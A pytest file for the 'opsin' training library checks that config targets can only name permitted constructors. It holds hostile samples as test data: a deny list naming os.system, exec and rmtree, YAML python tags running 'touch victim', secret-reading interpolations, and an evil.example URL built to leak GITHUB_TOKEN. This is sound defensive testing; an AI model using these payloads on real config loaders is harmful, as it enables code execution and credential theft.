"""Targets: each section accepts its own public constructors and nothing else, not even from a foreign run."""

import ast
import importlib
import inspect
import shutil
import sys
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import lightning.pytorch
import pytest
import torch
import yaml
from omegaconf import OmegaConf

import opsin
from opsin.config import CONFIGS, ConfigSource, compose, from_saved
from opsin.config.run_config import plain
from opsin.config.signatures import signature_model
from opsin.config.validation import check
from opsin.errors import UserError
from opsin.inference.predictor import open_predictor
from opsin.models.weights import known_weights
from opsin.runs.directory import RunDirectory
from opsin.sweeps.checked_sweep import SCHEMA as SWEEP_SCHEMA
from opsin.training.plan import SCHEMA as RUN_SCHEMA
from opsin.training.plan import make_plan

SCHEMA = {**RUN_SCHEMA, **SWEEP_SCHEMA}
SECTIONS = {key: section.constructors for key, section in SCHEMA.items() if section.constructors}
NETWORKS, DATASETS, SCHEDULES = SECTIONS["model"], SECTIONS["datamodule"], SECTIONS["scheduler"]

PACKAGES = {
    "opsin": Path(opsin.__file__).parent,
    "torch.optim": Path(torch.optim.__file__).parent,
    "lightning.pytorch.callbacks": Path(lightning.pytorch.__file__).parent / "callbacks",
    "lightning.pytorch.loggers": Path(lightning.pytorch.__file__).parent / "loggers",
    "lightning.pytorch.profilers": Path(lightning.pytorch.__file__).parent / "profilers",
}
HOSTILE = (
    "os.system",
    "builtins.exec",
    "subprocess.run",
    "shutil.rmtree",
    "pathlib.Path.unlink",
    "urllib.request.urlretrieve",
    "opsin.models.torch.os.system",
    "opsin.models.timm.os.system",
    "opsin.data.datasets.mnist.__globals__",
    "opsin.models.load_weights",
    "opsin.models.weights.load_weights",
    "opsin.runs.atomic.write_atomically",
    "opsin.data.shards.shard_cache._delete_unless_held",
    "opsin.data.shard_writer.write_shards",
    "opsin.training.build.trainer",
    "torch.load",
    "torch.hub.load",
    "torch.optim.Optimizer.load_state_dict",
    "torch.optim.optimizer.torch.load",
    "lightning.pytorch.callbacks.os.system",
    "lightning.pytorch.callbacks.model_checkpoint.os.remove",
    "lightning.pytorch.callbacks",
    "lightning.pytorch.loggers.csv_logs.os.makedirs",
    "..os.system",
    " opsin.models.mlp",
    "opsin.models.mlp ",
    "OPSIN.models.mlp",
)


def names_in(package: str, folder: Path) -> Iterator[str]:
    """Every name that a module of a package defines or imports, private ones too, and the module itself."""
    for file in sorted(folder.rglob("*.py")):
        module = ".".join([package, *file.relative_to(folder).with_suffix("").parts]).removesuffix(".__init__")
        yield module
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            if isinstance(node, ast.FunctionDef | ast.ClassDef | ast.AsyncFunctionDef):
                yield f"{module}.{node.name}"
            elif isinstance(node, ast.Import | ast.ImportFrom):
                for alias in node.names:
                    name = alias.asname or alias.name
                    yield from (f"{module}.{name}", f"{module}.{name}.system")


@pytest.fixture(scope="module")
def every_name() -> set[str]:
    names = {name for package, folder in PACKAGES.items() for name in names_in(package, folder)}
    assert {"opsin.runs.atomic.write_atomically", "opsin.commands.train.train", "torch.optim.adam.Adam"} <= names
    assert len(names) > 5000
    return names


@pytest.mark.slow
@pytest.mark.parametrize("section", SECTIONS)
def test_every_other_name_of_the_libraries_is_refused_without_an_import(
    section: str, every_name: set[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    constructors = SECTIONS[section]
    accepted = set(constructors.by_name)
    monkeypatch.setattr(
        "opsin.config.target_lookup.did_you_mean", lambda *_: ""
    )  # thousands of suggestions take minutes
    monkeypatch.setattr("opsin.config.target_lookup.permitted_packages", tuple)  # and so do as many readings of a file
    monkeypatch.setattr(
        "opsin.config.target_lookup.importlib.import_module", lambda name: pytest.fail(f"imported {name}")
    )
    loaded = set(sys.modules)
    for name in every_name - accepted:
        reason = ": a resume could not change its options" if name in constructors.replaced else " here"
        with pytest.raises(UserError, match=f"is not accepted{reason}"):
            constructors.resolve(name)
    assert set(sys.modules) == loaded


@pytest.mark.parametrize("section", SECTIONS)
def test_an_accepted_name_is_a_public_constructor_of_the_section(section: str) -> None:
    for name, found in SECTIONS[section].by_name.items():
        package, _, last = name.rpartition(".")
        module = importlib.import_module(package)
        assert last in getattr(module, "__all__", vars(module))
        assert not any(part.startswith("_") for part in name.split("."))
        assert inspect.isclass(found) or inspect.isfunction(found)
        assert not inspect.isabstract(found)


def test_the_lists_contain_the_expected_targets() -> None:
    assert {name.rpartition(".")[2] for name in DATASETS.by_name} == {
        *("cats_vs_dogs", "cifar10", "digits", "fashion_mnist", "hugging_face", "image_folder", "mnist", "shards")
    }
    augmentations = set(SECTIONS["augmentation"].by_name)
    torchvision_classes = {name for name in augmentations if name.startswith("torchvision.transforms.v2.")}
    assert augmentations - torchvision_classes == {"opsin.data.augmentation.Augmentation"}
    assert {
        "torchvision.transforms.v2.RandomHorizontalFlip",
        "torchvision.transforms.v2.TrivialAugmentWide",
    } <= augmentations
    own = {name.rpartition(".")[2] for name in SCHEDULES.by_name if name.startswith("opsin.")}
    assert own == {"constant", "cosine", "onecycle", "plateau", "step"}
    assert {name.rpartition(".")[2] for name in SECTIONS["launcher"].by_name} == {"Local", "Ray", "Slurm"}
    models = {name.rpartition(".")[2] for name in NETWORKS.by_name}
    assert {"mlp", "cnn_gap", "resnet18", "timm"} <= models
    assert not models & {"Network", "NetworkSummary", "load_weights", "weights_facts", "summary_text"}
    assert "torch.optim.Optimizer" not in SECTIONS["optimizer"].by_name
    assert {"torch.optim.Adam", "torch.optim.SGD", "torch.optim.Muon"} <= set(SECTIONS["optimizer"].by_name)
    assert "lightning.pytorch.callbacks.EMAWeightAveraging" in SECTIONS["callbacks"].by_name
    assert "lightning.pytorch.loggers.CSVLogger" in SECTIONS["logger"].by_name


@pytest.mark.parametrize("section", SECTIONS)
def test_hostile_names_are_refused_in_every_section(section: str) -> None:
    for name in HOSTILE:
        with pytest.raises(UserError, match="is not accepted here"):
            SECTIONS[section].resolve(name)


@pytest.mark.parametrize(
    ("section", "name", "hint"),
    [
        ("optimizer", "torch.optim.adam.Adam", "torch.optim.Adam"),
        ("optimizer", "torch.optim.Adom", "torch.optim.Adam"),
        ("optimizer", "torch.optim.Adan", "timm.optim.Adan"),
        ("model", "opsin.models.scratch.cnn.cnn_gap", "opsin.models.cnn_gap"),
        ("callbacks", "opsin.training.callbacks.checkpoints.Checkpoints", "opsin.training.callbacks.Checkpoints"),
        ("callbacks", "lightning.callbacks.LearningRateMonitor", "lightning.pytorch.callbacks.LearningRateMonitor"),
        ("logger", "lightning.pytorch.loggers.csv_logs.CSVLogger", "lightning.pytorch.loggers.CSVLogger"),
    ],
)
def test_the_public_name_is_suggested(section: str, name: str, hint: str) -> None:
    with pytest.raises(UserError, match=rf"did you mean {hint}\?"):
        SECTIONS[section].resolve(name)


def test_every_target_of_the_shipped_configs_is_accepted() -> None:
    found = 0
    for file in CONFIGS.rglob("*.yaml"):
        group = file.relative_to(CONFIGS).parts[0]
        tree = yaml.safe_load(file.read_text()) or {}
        parts = tree.values() if group in ("callbacks", "logger") else [tree]
        for part in parts:
            if group in SECTIONS and isinstance(part, dict) and "_target_" in part:
                SECTIONS[group].resolve(part["_target_"])
                found += 1
    assert found > 60


@pytest.mark.parametrize("section", SECTIONS)
def test_each_key_of_a_section_has_one_owner(section: str) -> None:
    schema = SCHEMA[section]
    for name, constructor in SECTIONS[section].by_name.items():
        owners = [signature_model(options) for options in schema.options.values()]
        owners.append(signature_model(constructor, schema.computed))
        keys = [key for owner in owners for key in owner.model_fields]
        assert len(keys) == len(set(keys)), name


@pytest.mark.parametrize("section", SECTIONS)
def test_the_signature_of_each_constructor_can_be_read(section: str) -> None:
    """Some have annotations that exist for a type checker only, which `typing.get_type_hints` cannot resolve."""
    for name, constructor in SECTIONS[section].by_name.items():
        parameters = inspect.signature(constructor).parameters.values()
        named = {p.name for p in parameters if p.kind not in (p.VAR_POSITIONAL, p.VAR_KEYWORD)}
        assert set(signature_model(constructor).model_fields) == named, name


@pytest.mark.parametrize(
    ("section", "values"),
    [
        ("scheduler", {"_target_": "torch.optim.lr_scheduler.MultiStepLR", "milestones": [1, 2]}),
        ("logger", {"_target_": "lightning.pytorch.loggers.WandbLogger", "project": "mine"}),
        ("optimizer", {"_target_": "torch.optim.Adafactor", "eps": [None, 0.001]}),
    ],
)
def test_classes_with_unresolvable_annotations_can_be_configured(section: str, values: dict[str, str]) -> None:
    config, chosen = compose([]), {"mine": values} if section == "logger" else values
    plan = make_plan(replace(config, tree={**config.tree, section: chosen}))
    target = {"scheduler": plan.schedule, "logger": plan.loggers.get("mine"), "optimizer": plan.optimizer}[section]
    assert target is not None
    assert target.call.__name__ == values["_target_"].rpartition(".")[2]
    assert {*target.arguments} >= values.keys() - {"_target_"}


@pytest.mark.slow
@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("datamodule.mean", {"_target_": "os.system"}),
        ("model.phases", [{"epoch": 1, "trainable": "all", "_target_": "os.system"}]),
        ("optimizer.betas", [{"_target_": "os.system"}, 0.9]),
        ("trainer._target_", "os.system"),
        ("loss._target_", "opsin.training.loss.ClassificationLoss"),
        ("feature_cache._target_", "os.system"),
        ("distillation.embedding", {"weight": {"_target_": "os.system"}}),
        ("callbacks.progress.bar", {"_target_": "os.system"}),
        ("monitor._target_", "os.system"),
    ],
)
def test_a_target_inside_a_value_is_refused(path: str, value: object) -> None:
    tree = compose([]).tree
    node = tree
    *parents, last = path.split(".")
    for key in parents:
        node = node[key]
    node[last] = value
    with pytest.raises(UserError, match=r"_target_ is not accepted: only a section that needs a constructor"):
        check(tree, RUN_SCHEMA)


WORDS = ("_args_", "_partial_", "_convert_", "_recursive_", "_mode_", "_self_", "()")


@pytest.mark.slow
@pytest.mark.parametrize("section", [*SECTIONS, "trainer", "loss", "feature_cache"])
def test_instantiation_keywords_of_hydra_are_refused_as_unknown_keys(section: str) -> None:
    tree = {**compose([]).tree, "sweep": {}, "launcher": {"_target_": "opsin.sweeps.launchers.Local"}}
    values = next(iter(tree[section].values())) if SCHEMA[section].many else tree[section]
    values |= {key: ["touch victim"] for key in WORDS}
    with pytest.raises(UserError) as error:
        check(tree, SCHEMA)
    assert all(f"{word} is not known" in str(error.value) for word in WORDS)


@pytest.mark.parametrize(
    "text",
    [
        "${oc.env:EVIL}",
        "${oc.decode:${oc.env:EVIL}}",
        "${oc.select:nothing,os.system}",
        "${oc.create:os.system}",
        "${oc.deprecated:tags.0}",
        "${tags.0}",
        "${oc.dict.values:callbacks}",
    ],
)
def test_an_interpolation_gives_no_other_target(text: str, monkeypatch: pytest.MonkeyPatch, digits_run: Any) -> None:
    monkeypatch.setenv("EVIL", "os.system")
    config = OmegaConf.create(digits_run.config.read_text())
    config.tags, config.callbacks = ["os.system"], {"checkpoints": config.callbacks.checkpoints}
    config.model._target_ = text
    with pytest.raises(UserError, match=r"is not accepted here|must be the dotted name|cannot be resolved"):
        check(plain(config), RUN_SCHEMA)


TAGS = (
    "!!python/object/apply:os.system ['touch victim']",
    "!!python/object/new:os.system ['touch victim']",
    "!!python/name:os.system",
    "!!python/module:antigravity",
    "!!python/object:subprocess.Popen {}",
)


@pytest.mark.parametrize("tag", TAGS)
def test_a_yaml_tag_creates_no_object(tag: str, in_tmp: Path, digits_run: RunDirectory) -> None:
    (in_tmp / "experiment").mkdir()
    (in_tmp / "experiment" / "theirs.yaml").write_text(f"# @package _global_\ntags: {tag}\n")
    with pytest.raises(UserError, match="could not determine a constructor"):
        compose(["experiment=theirs"], source=ConfigSource.of([str(in_tmp)]))
    run = RunDirectory(in_tmp / "run")
    run.path.mkdir()
    for file in (run.config, run.overrides):
        run.config.write_text(digits_run.config.read_text())
        file.write_text(f"tags: {tag}\n")
        with pytest.raises(UserError, match=f"{file.name} is damaged"):
            from_saved(run)
    assert not (in_tmp / "victim").exists()


@pytest.mark.parametrize(
    "name", ["hf-hub:evil/model", "hf_hub:evil/model", "local-dir:/tmp/evil", "../evil", "resnet*"]
)
def test_timm_loads_networks_of_its_own_list_only(name: str) -> None:
    with pytest.raises(UserError, match="timm has no network"):
        NETWORKS.resolve("opsin.models.timm")(num_logits=2, image_size=(32, 32), name=name)
    with pytest.raises(UserError, match="timm has no network"):
        known_weights("timm", name=name, image_size=(32, 32))


def test_a_foreign_run_sends_no_secret(digits_run: RunDirectory, in_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "a very secret value")
    tree = yaml.safe_load(digits_run.config.read_text())
    options = {"endpoint_url": "http://evil.example/${oc.env:GITHUB_TOKEN}"}
    run = RunDirectory(in_tmp / "run")
    shutil.copytree(digits_run.path, run.path)
    for section, values in (
        ("datamodule", {"_target_": "opsin.data.datasets.shards", "path": "s3://x", "storage_options": options}),
        ("callbacks", {**tree["callbacks"], "x": {"_target_": "opsin.training.callbacks.Pruning", "storage": options}}),
    ):
        run.config.write_text(yaml.safe_dump({**tree, section: values}))
        with pytest.raises(UserError, match=rf"{section}\S+: the name of this variable marks a secret"):
            evaluate(run)


def test_a_network_of_a_foreign_run_gets_no_secret(
    digits_run: RunDirectory, in_tmp: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "a very secret value")
    run = RunDirectory(in_tmp / "run")
    shutil.copytree(digits_run.path, run.path)
    tree = yaml.safe_load(run.config.read_text())
    run.config.write_text(yaml.safe_dump({**tree, "model": {**tree["model"], "weights": "${oc.env:GITHUB_TOKEN}"}}))
    with pytest.raises(UserError, match=r"model\S+: the name of this variable marks a secret"):
        open_predictor(str(run.path))


def resume(run: RunDirectory) -> None:
    from opsin.commands.train import train

    train(from_saved(run, ["trainer.max_epochs=2"]))


def evaluate(run: RunDirectory) -> None:
    from opsin.commands.evaluate import evaluate

    evaluate(run)


def predict(run: RunDirectory) -> None:
    from opsin.inference.predictor import open_predictor

    open_predictor(run.path)


def report(run: RunDirectory) -> None:
    from opsin.commands.report_images import remake_images

    remake_images(run)


def interpret(run: RunDirectory) -> None:
    from opsin.commands.interpret.model_and_images import open_model_and_images

    open_model_and_images(str(run.path))


def explore(run: RunDirectory) -> None:
    from opsin.commands.explore.models import RunModels

    RunModels(run.path.parent).open(run.path.name)


def embed(run: RunDirectory) -> None:
    from opsin.inference.inputs import open_images
    from opsin.inference.trained_model import load_trained_model

    open_images(load_trained_model(str(run.path)))


COMMANDS = (resume, evaluate, predict, report, interpret, explore, embed)
SECTIONS_OF_RUN = [key for key in SECTIONS if key in RUN_SCHEMA]


@pytest.fixture(scope="module")
def foreign_run(digits_run: RunDirectory, tmp_path_factory: pytest.TempPathFactory) -> RunDirectory:
    """A copy of a finished run that brings code of its own and a project file that permits it."""
    folder = tmp_path_factory.mktemp("foreign") / "run"
    shutil.copytree(digits_run.path, folder)
    (folder / "evil.py").write_text(f"open({str(folder / 'imported')!r}, 'w')\ndef make(**_): ...\n")
    (folder / "pyproject.toml").write_text('[tool.opsin]\ntargets = ["evil"]\n')
    return RunDirectory(folder)


def contents(folder: Path) -> dict[Path, bytes]:
    return {file: file.read_bytes() for file in sorted(folder.rglob("*")) if file.is_file()}


@pytest.mark.slow
@pytest.mark.parametrize(
    ("command", "section"),
    [
        *((command, "model") for command in COMMANDS),
        *((resume, section) for section in SECTIONS_OF_RUN if section != "model"),
    ],
)
def test_a_foreign_run_with_a_bad_target_writes_deletes_and_imports_nothing(
    command: Callable[[RunDirectory], None],
    section: str,
    foreign_run: RunDirectory,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(foreign_run.path)
    monkeypatch.syspath_prepend(str(foreign_run.path))
    (tmp_path / "victim").write_text("mine")
    original = foreign_run.config.read_text()
    targets = (
        {"_target_": "evil.make"},
        {"_target_": "opsin.runs.atomic.write_atomically", "path": str(tmp_path / "stolen"), "text": "x"},
        {"_target_": "opsin.data.shards.shard_cache._delete_unless_held", "file": str(tmp_path / "victim")},
    )
    try:
        for target in targets:
            tree = yaml.safe_load(original)
            tree[section] = {**tree[section], "bad": target} if RUN_SCHEMA[section].many else target
            foreign_run.config.write_text(yaml.safe_dump(tree))
            before = contents(foreign_run.path)
            with pytest.raises(UserError, match=rf"{section}\S*\._target_: {target['_target_']} is not accepted here"):
                command(foreign_run)
            if section != "model":
                predict(foreign_run)  # reads the sections model and trainer only
            assert contents(foreign_run.path) == before
    finally:
        foreign_run.config.write_text(original)
    assert (tmp_path / "victim").read_text() == "mine"
    assert [file.name for file in tmp_path.iterdir()] == ["victim"]
    assert "evil" not in sys.modules
